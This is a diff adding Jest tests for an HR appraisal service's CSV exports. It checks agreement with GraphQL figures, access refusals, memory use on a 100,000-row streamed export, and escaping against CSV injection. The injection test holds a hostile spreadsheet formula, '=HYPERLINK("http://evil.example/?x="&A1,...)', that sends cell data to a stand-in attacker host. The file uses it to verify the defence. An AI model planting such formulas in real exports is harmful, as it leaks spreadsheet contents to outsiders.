@@ -1,0 +1,372 @@
+import { type IncomingMessage, type ServerResponse } from 'node:http';
+import { runInNewContext } from 'node:vm';
+import { setFlagsFromString } from 'node:v8';
+import { parse } from 'csv-parse/sync';
+import { Role } from '../../src/core/auth/role';
+import { AppraisalForm, AppraisalStatus, PlanApproach } from '../../src/modules/appraisal/appraisal-enums';
+import { EmploymentType, Gender, PositionKind } from '../../src/modules/employee/employee-enums';
+import { insertRows } from '../../src/seed/seed-writer';
+import { TestApp } from '../support/test-app';
+import { wit } from './evaluation-helpers';
+import {
+  type AnalyticsFixture,
+  ANALYTICS_QUERY,
+  type AnalyticsOut,
+  buildAnalyticsFixture,
+  dbIdOf,
+  exportUrl,
+  PREDIKATS,
+  unitGid,
+} from './analytics-helpers';
+import { Planning } from './planning-helpers';
+
+/**
+ * The CSV exports of issue 6 over HTTP: `/exports/analytics/<breakdown>.csv` and `/exports/appraisal-results.csv`
+ * with the same bearer token and policy as GraphQL, parsed with csv-parse and compared with the GraphQL figures;
+ * the refusals (401, 400, 403, 404); CSV injection; and a 100,000-row export that streams with flat memory.
+ */
+
+type Row = Record<string, string>;
+
+interface CsvResponse {
+  status: number;
+  headers: Headers;
+  text: string;
+  rows: Row[];
+}
+
+async function getCsv(url: string, token: string | null, extra: Record<string, string> = {}): Promise<CsvResponse> {
+  const res = await fetch(url, { headers: { ...(token ? { authorization: `Bearer ${token}` } : {}), ...extra } });
+  const text = await res.text();
+  const csv = res.headers.get('content-type')?.startsWith('text/csv') ?? false;
+  return { status: res.status, headers: res.headers, text, rows: csv ? (parse(text, { columns: true }) as Row[]) : [] };
+}
+
+/** A GraphQL figure as its CSV cell: null is empty, booleans and numbers as text. */
+const cell = (v: unknown): string => (v === null || v === undefined ? '' : String(v));
+
+describe('analytics CSV exports', () => {
+  let app: TestApp;
+  let fx: AnalyticsFixture;
+  let pid: string;
+
+  beforeAll(async () => {
+    app = await TestApp.start();
+    fx = await buildAnalyticsFixture(app);
+    pid = fx.year.period.id;
+    app.clock.set(wit('2028-01-10'));
+  }, 120_000);
+  afterAll(() => app?.stop());
+
+  const url = (path: string, params: Record<string, string | undefined> = {}) => exportUrl(app, path, { unitId: unitGid(fx.dinkes), periodId: pid, ...params });
+  const graphql = async (token: string, vars: Record<string, unknown> = {}) =>
+    (await app.data<{ analytics: AnalyticsOut }>(ANALYTICS_QUERY(), { u: unitGid(fx.dinkes), p: pid, ...vars }, token)).analytics;
+
+  /** The CSV rows a list of GraphQL groups should give, as strings, in the export's columns. */
+  const expectedRows = {
+    distribution: (a: AnalyticsOut) =>
+      a.distribution.map((g) => ({
+        key: g.key,
+        label: g.label,
+        employees: cell(g.employees),
+        suppressed: cell(g.suppressed),
+        pending: cell(g.pending),
+        ...Object.fromEntries(g.counts.map((c) => [c.predikat, cell(c.count)])),
+        unit_rating: cell(g.unitRating),
+        curve_violations: g.violations.map((v) => v.rule).join('; '),
+      })),
+    completion: (a: AnalyticsOut) =>
+      a.completion.map((g) => ({
+        key: g.key,
+        label: g.label,
+        employees: cell(g.employees),
+        suppressed: cell(g.suppressed),
+        draft: cell(g.draft),
+        submitted: cell(g.submitted),
+        returned: cell(g.returned),
+        approved: cell(g.approved),
+        revising: cell(g.revising),
+        evaluated: cell(g.evaluated),
+        final: cell(g.final),
+        planning_overdue: cell(g.planningOverdue),
+        evaluation_overdue: cell(g.evaluationOverdue),
+      })),
+    achievement: (a: AnalyticsOut) =>
+      a.achievement.map((g) => ({
+        key: g.key,
+        label: g.label,
+        employees: cell(g.employees),
+        suppressed: cell(g.suppressed),
+        indicators: cell(g.indicators),
+        average_achievement: cell(g.averageAchievement),
+        met: cell(g.met),
+      })),
+    responsiveness: (a: AnalyticsOut) =>
+      a.responsiveness.map((g) => ({
+        key: g.key,
+        label: g.label,
+        employees: cell(g.employees),
+        suppressed: cell(g.suppressed),
+        realizations: cell(g.realizations),
+        realization_feedback_share: cell(g.realizationFeedbackShare),
+        median_hours_to_feedback: cell(g.medianHoursToFeedback),
+        activities: cell(g.activities),
+        activity_review_share: cell(g.activityReviewShare),
+        median_hours_to_review: cell(g.medianHoursToReview),
+      })),
+  };
+  const KINDS = ['distribution', 'completion', 'achievement', 'responsiveness'] as const;
+
+  it.each(KINDS)('%s.csv for HR matches the GraphQL figures, with CSV headers and no caching', async (kind) => {
+    const res = await getCsv(url(`analytics/${kind}.csv`), fx.tokens.hr);
+    expect(res.status).toBe(200);
+    expect(res.headers.get('content-type')).toMatch(/^text\/csv/);
+    expect(res.headers.get('content-disposition')).toBe(`attachment; filename="${kind}-2027-${fx.dinkes.code}.csv"`);
+    expect(res.headers.get('cache-control')).toMatch(/no-store/);
+    expect(res.rows).toEqual(expectedRows[kind](await graphql(fx.tokens.hr)));
+    expect(res.rows.length).toBeGreaterThan(0);
+  });
+
+  it.each(KINDS)('%s.csv for an analyst matches the GraphQL figures, withheld groups as empty cells', async (kind) => {
+    const res = await getCsv(url(`analytics/${kind}.csv`), fx.tokens.analyst);
+    expect(res.status).toBe(200);
+    const a = await graphql(fx.tokens.analyst);
+    expect(res.rows).toEqual(expectedRows[kind](a));
+    const pustu = res.rows.find((r) => r.key === unitGid(fx.pustu))!;
+    expect(pustu.suppressed).toBe('true');
+    if (kind === 'distribution') expect(PREDIKATS.map((p) => pustu[p])).toEqual(['', '', '', '', '']);
+  });
+
+  it('a breakdown by position kind and a unit without subunits reach the export as parameters', async () => {
+    const kinds = await getCsv(url('analytics/distribution.csv', { breakdown: 'POSITION_KIND' }), fx.tokens.hr);
+    expect(kinds.rows).toEqual(expectedRows.distribution(await graphql(fx.tokens.hr, { b: 'POSITION_KIND' })));
+    const own = await getCsv(url('analytics/completion.csv', { unitId: unitGid(fx.pkm), includeSubunits: 'false' }), fx.tokens.hr);
+    expect(own.rows.map((r) => [r.key, r.employees, r.draft, r.submitted, r.approved, r.evaluated])).toEqual([[unitGid(fx.pkm), '9', '1', '1', '1', '6']]);
+  });
+
+  it('appraisal-results.csv: one row per plan for HR, summing to the distribution and completion figures', async () => {
+    const res = await getCsv(url('appraisal-results.csv'), fx.tokens.hr);
+    expect(res.status).toBe(200);
+    expect(res.headers.get('content-type')).toMatch(/^text\/csv/);
+    expect(res.headers.get('content-disposition')).toBe(`attachment; filename="appraisal-results-2027-${fx.dinkes.code}.csv"`);
+    expect(res.headers.get('cache-control')).toMatch(/no-store/);
+    expect(Object.keys(res.rows[0]!)).toEqual([
+      'nip', 'name', 'unit_code', 'unit_name', 'position_title', 'position_kind', 'grade', 'status', 'result_rating', 'behavior_rating', 'predikat', 'credit_points', 'objection', 'delivered_at',
+    ]);
+    expect(res.rows).toHaveLength(14);
+    const nips = [fx.kadinkes, fx.head, fx.lead, ...fx.n.map((m) => m.owner), ...fx.b.map((m) => m.owner)].map((x) => x.nip).sort();
+    expect(res.rows.map((r) => r.nip).sort()).toEqual(nips);
+    const hr = await graphql(fx.tokens.hr);
+    const units = { [fx.dinkes.code]: fx.dinkes, [fx.pkm.code]: fx.pkm, [fx.pustu.code]: fx.pustu };
+    for (const [code, unit] of Object.entries(units)) {
+      const mine = res.rows.filter((r) => r.unit_code === code);
+      const dist = hr.distribution.find((g) => g.key === unitGid(unit))!;
+      expect(mine).toHaveLength(dist.employees);
+      expect(PREDIKATS.map((p) => mine.filter((r) => r.predikat === p).length)).toEqual(dist.counts.map((c) => c.count));
+      expect(mine.filter((r) => r.predikat === '').length).toBe(dist.pending);
+      const done = hr.completion.find((g) => g.key === unitGid(unit))!;
+      const count = (s: string) => mine.filter((r) => r.status === s).length;
+      expect([count('DRAFT'), count('SUBMITTED'), count('RETURNED'), count('APPROVED'), count('REVISING'), count('EVALUATED'), count('FINAL')]).toEqual([
+        done.draft, done.submitted, done.returned, done.approved, done.revising, done.evaluated, done.final,
+      ]);
+    }
+    // The finalized Pustu plans carry their delivery; the row of the lead reads as rated.
+    const leadRow = res.rows.find((r) => r.nip === fx.lead.nip)!;
+    expect(leadRow).toMatchObject({ status: 'FINAL', result_rating: 'SESUAI_EKSPEKTASI', behavior_rating: 'DI_BAWAH_EKSPEKTASI', predikat: 'KURANG_MISCONDUCT', unit_name: 'Pustu Walesi' });
+    expect(leadRow.delivered_at).not.toBe('');
+  });
+
+  it('appraisal-results.csv for a supervisor: the people below her only; for a peer: the header alone', async () => {
+    const head = await getCsv(url('appraisal-results.csv'), await fx.e.token(fx.head));
+    expect(head.status).toBe(200);
+    const below = [fx.lead, ...fx.n.map((m) => m.owner), ...fx.b.map((m) => m.owner)].map((x) => x.nip).sort();
+    expect(head.rows.map((r) => r.nip).sort()).toEqual(below);
+    const peer = await getCsv(url('appraisal-results.csv'), await fx.e.token(fx.n[0]!.owner));
+    expect(peer.status).toBe(200);
+    expect(peer.rows).toEqual([]);
+    expect(peer.text.trim().split('\n')).toHaveLength(1);
+    // A scoped HR admin of the Pustu: its four plans; the Puskesmas is not hers (404).
+    const scoped = await getCsv(url('appraisal-results.csv', { unitId: unitGid(fx.pustu) }), fx.tokens.scopedHr);
+    expect(scoped.rows.map((r) => r.nip).sort()).toEqual([fx.lead, ...fx.b.map((m) => m.owner)].map((x) => x.nip).sort());
+    expect((await getCsv(url('appraisal-results.csv', { unitId: unitGid(fx.pkm) }), fx.tokens.scopedHr)).status).toBe(404);
+  });
+
+  it('refuses: 401 without or with a bad token, 400 for missing or bad parameters, 404 for an unknown unit or export, 403 for analysts on row-level results', async () => {
+    const paths = [...KINDS.map((k) => `analytics/${k}.csv`), 'appraisal-results.csv'];
+    const expired = await app.token('bps-analytics', { roles: [Role.ANALYST], expiresIn: -60 });
+    const forged = await app.token('bps-analytics', { roles: [Role.ANALYST], secret: 'not-the-secret-of-this-server-0123456789abcdef' });
+    for (const path of paths) {
+      for (const token of [null, 'garbage', expired, forged]) {
+        const res = await getCsv(url(path), token);
+        expect([path, res.status, res.text.includes('UNAUTHENTICATED')]).toEqual([path, 401, true]);
+      }
+      expect([path, (await getCsv(url(path, { unitId: undefined, periodId: undefined }), fx.tokens.hr)).status]).toEqual([path, 400]);
+      expect([path, (await getCsv(exportUrl(app, path, { unitId: unitGid(fx.dinkes) }), fx.tokens.hr)).status]).toEqual([path, 400]);
+      expect([path, (await getCsv(url(path, { includeSubunits: 'maybe' }), fx.tokens.hr)).status]).toEqual([path, 400]);
+      expect([path, (await getCsv(url(path, { breakdown: 'GENDER' }), fx.tokens.hr)).status]).toEqual([path, 400]);
+      expect([path, (await getCsv(url(path, { unitId: unitGid({ id: 987_654 } as never) }), fx.tokens.hr)).status]).toEqual([path, 404]);
+      expect([path, (await getCsv(url(path, { periodId: unitGid(fx.pkm) }), fx.tokens.hr)).status]).toEqual([path, 404]);
+      expect([path, (await getCsv(url(path), fx.tokens.integration)).status]).toEqual([path, 404]);
+    }
+    expect((await getCsv(url('analytics/salaries.csv'), fx.tokens.hr)).status).toBe(404);
+    expect((await getCsv(url('analytics/distribution.json'), fx.tokens.hr)).status).toBe(404);
+    const analyst = await getCsv(url('appraisal-results.csv'), fx.tokens.analyst);
+    expect(analyst.status).toBe(403);
+    expect(analyst.rows).toEqual([]);
+    expect(analyst.text).not.toContain(fx.n[0]!.owner.nip);
+  });
+
+  it('prefixes formula-looking names with an apostrophe (CSV injection), in labels and in row-level cells', async () => {
+    const escape = (name: string) => app.db.dataSource.driver.escape(name);
+    const [oldUnit, oldName] = [fx.pustu.name, fx.b[2]!.owner.name];
+    const nasty = '=HYPERLINK("http://evil.example/?x="&A1,"klik")';
+    await app.db.manager.query(`UPDATE ${escape('unit')} SET name = ? WHERE id = ?`, ['+Pustu Walesi', fx.pustu.id]);
+    await app.db.manager.query(`UPDATE ${escape('employee')} SET name = ? WHERE id = ?`, [nasty, fx.b[2]!.owner.id]);
+    await app.db.manager.query(`UPDATE ${escape('employee')} SET name = ? WHERE id = ?`, ['@SUM(1+1)', fx.b[1]!.owner.id]);
+    await app.db.manager.query(`UPDATE ${escape('employee')} SET name = ? WHERE id = ?`, ['-2+3', fx.b[0]!.owner.id]);
+    try {
+      const dist = await getCsv(url('analytics/distribution.csv'), fx.tokens.hr);
+      expect(dist.rows.find((r) => r.key === unitGid(fx.pustu))!.label).toBe("'+Pustu Walesi");
+      const rows = await getCsv(url('appraisal-results.csv', { unitId: unitGid(fx.pustu) }), fx.tokens.hr);
+      const byNip = Object.fromEntries(rows.rows.map((r) => [r.nip, r]));
+      expect(byNip[fx.b[2]!.owner.nip]).toMatchObject({ name: `'${nasty}`, unit_name: "'+Pustu Walesi" });
+      expect(byNip[fx.b[1]!.owner.nip]!.name).toBe("'@SUM(1+1)");
+      expect(byNip[fx.b[0]!.owner.nip]!.name).toBe("'-2+3");
+      // Ordinary names are left alone.
+      expect(byNip[fx.lead.nip]!.name).toBe('Lead Pustu');
+    } finally {
+      await app.db.manager.query(`UPDATE ${escape('unit')} SET name = ? WHERE id = ?`, [oldUnit, fx.pustu.id]);
+      await app.db.manager.query(`UPDATE ${escape('employee')} SET name = ? WHERE id = ?`, [oldName, fx.b[2]!.owner.id]);
+    }
+  });
+
+  it('an analyst gets the four breakdowns in one GraphQL request and as CSV, the same figures', async () => {
+    const a = await graphql(fx.tokens.analyst);
+    for (const kind of KINDS) expect((await getCsv(url(`analytics/${kind}.csv`), fx.tokens.analyst)).rows).toEqual(expectedRows[kind](a));
+    expect(dbIdOf(pid)).toBeGreaterThan(0);
+  });
+});
+
+// ---- A 100,000-row export with flat memory ---------------------------------------------------------------------
+
+const ROWS = 100_000;
+
+/** V8's collector, for a clean baseline (jest does not expose it by default). */
+function collector(): () => void {
+  setFlagsFromString('--expose-gc');
+  return runInNewContext('gc') as () => void;
+}
+
+describe('a 100,000-row appraisal-results export', () => {
+  let app: TestApp;
+  let hr: string;
+  let unitId: string;
+  let periodId: string;
+  /** The most 'close' listeners the server's response of the export had at once while it streamed. */
+  let maxCloseListeners = 0;
+
+  beforeAll(async () => {
+    app = await TestApp.start();
+    const p = await new Planning(app).init();
+    hr = p.hr;
+    app.clock.set('2027-01-04T01:00:00Z');
+    const period = await p.openPeriod(2027);
+    periodId = period.id;
+    const unit = await app.fixtures.unit({ code: 'BIG-UNIT', name: 'Unit Besar' });
+    unitId = unitGid(unit);
+    const now = new Date('2027-01-04T01:00:00Z');
+    const base = 1_000_000;
+    const period_ = dbIdOf(period.id);
+    await app.db.transaction(async (em) => {
+      const noop = () => undefined;
+      // Built and written in slices, so that the test itself does not hold 100,000 rows either.
+      for (let from = 0; from < ROWS; from += 20_000) {
+        const ids = Array.from({ length: Math.min(20_000, ROWS - from) }, (_, i) => base + from + i);
+        await insertRows(
+          em,
+          'employee',
+          ['id', 'nip', 'name', 'title_prefix', 'title_suffix', 'employment_type', 'grade', 'gender', 'position_title', 'position_kind', 'unit_id', 'supervisor_id', 'external_supervisor_id', 'email', 'active', 'version', 'created_at', 'updated_at'],
+          ids.map((id) => [id, `198001012005${String(id).slice(-6)}`, `Pegawai Besar ${id}`, null, null, EmploymentType.PNS, 'III/a', id % 2 ? Gender.FEMALE : Gender.MALE, 'Pengadministrasi Umum', PositionKind.PELAKSANA, unit.id, null, null, null, true, 1, now, now]),
+          noop,
+        );
+        await insertRows(
+          em,
+          'appraisal',
+          [
+            'id', 'employee_id', 'period_id', 'open_period_id', 'status', 'form', 'approach', 'start_date', 'end_date', 'position_title', 'position_kind', 'grade', 'unit_id',
+            'appraiser_employee_id', 'appraiser_external_id', 'appraiser_name', 'appraiser_position_title', 'appraiser_supervisor_employee_id', 'appraiser_supervisor_external_id',
+            'appraiser_supervisor_name', 'appraiser_supervisor_position_title', 'resource_support', 'accountability_scheme', 'consequences', 'submitted_at', 'approved_at',
+            'approved_late', 'closed_at', 'version', 'created_at', 'updated_at',
+          ],
+          ids.map((id) => [
+            id, id, period_, period_, AppraisalStatus.APPROVED, AppraisalForm.JA_JF, PlanApproach.QUANTITATIVE, '2027-01-01', '2027-12-31', 'Pengadministrasi Umum', PositionKind.PELAKSANA, 'III/a', unit.id,
+            null, null, null, null, null, null, null, null, null, null, null, now, now, false, null, 1, now, now,
+          ]),
+          noop,
+        );
+      }
+    });
+  }, 180_000);
+  afterAll(() => app?.stop());
+
+  it('streams 100,001 lines while the heap stays flat (well under what holding the rows would take)', async () => {
+    const gc = collector();
+    gc();
+    const baseline = process.memoryUsage().heapUsed;
+    let peak = baseline;
+    const sample = () => {
+      const used = process.memoryUsage().heapUsed;
+      if (used > peak) peak = used;
+    };
+    // The server runs in this process: watch its response object for listeners piling up per backpressure wait.
+    let response: ServerResponse | undefined;
+    const onRequest = (req: IncomingMessage, res: ServerResponse) => {
+      if (req.url?.startsWith('/exports/appraisal-results.csv')) response = res;
+    };
+    app.server.httpServer.prependListener('request', onRequest);
+    const sampleListeners = () => {
+      if (response) maxCloseListeners = Math.max(maxCloseListeners, response.listenerCount('close'));
+    };
+    const timer = setInterval(() => {
+      sample();
+      sampleListeners();
+    }, 5);
+    const started = Date.now();
+    let lines = 0;
+    let bytes = 0;
+    let firstByteMs = -1;
+    try {
+      const res = await fetch(exportUrl(app, 'appraisal-results.csv', { unitId, periodId }), { headers: { authorization: `Bearer ${hr}` } });
+      expect(res.status).toBe(200);
+      expect(res.headers.get('content-type')).toMatch(/^text\/csv/);
+      const reader = res.body!.getReader();
+      for (;;) {
+        const { done, value } = await reader.read();
+        if (done) break;
+        if (firstByteMs < 0) firstByteMs = Date.now() - started;
+        bytes += value.byteLength;
+        for (let i = 0; i < value.length; i++) if (value[i] === 10) lines += 1;
+        sample();
+        sampleListeners();
+      }
+    } finally {
+      clearInterval(timer);
+      app.server.httpServer.off('request', onRequest);
+    }
+    const growthMb = (peak - baseline) / 1024 / 1024;
+    // Reported for the record (jest prints console output).
+    process.stdout.write(
+      `\n100k export: ${lines} lines, ${(bytes / 1024 / 1024).toFixed(1)} MB of CSV in ${Date.now() - started} ms (first bytes after ${firstByteMs} ms); heap baseline ${(baseline / 1024 / 1024).toFixed(1)} MB, peak growth ${growthMb.toFixed(1)} MB; at most ${maxCloseListeners} 'close' listeners on the response\n`,
+    );
+    expect(lines).toBe(ROWS + 1);
+    // 100,000 rows of 14 columns held as objects would take well over 60 MB (the CSV text alone is ~10 MB).
+    expect(growthMb).toBeLessThan(60);
+  }, 120_000);
+
+  it('adds no listener per backpressure wait while streaming (none left behind on the response until it ends)', () => {
+    // Each wait for 'drain' must not leave a 'close'/'error' listener on the response: with one per wait they pile
+    // up with the size of the export (Node warns "MaxListenersExceededWarning … close listeners added to [ServerResponse]").
+    expect(maxCloseListeners).toBeGreaterThan(0);
+    expect(maxCloseListeners).toBeLessThanOrEqual(10);
+  });
+});
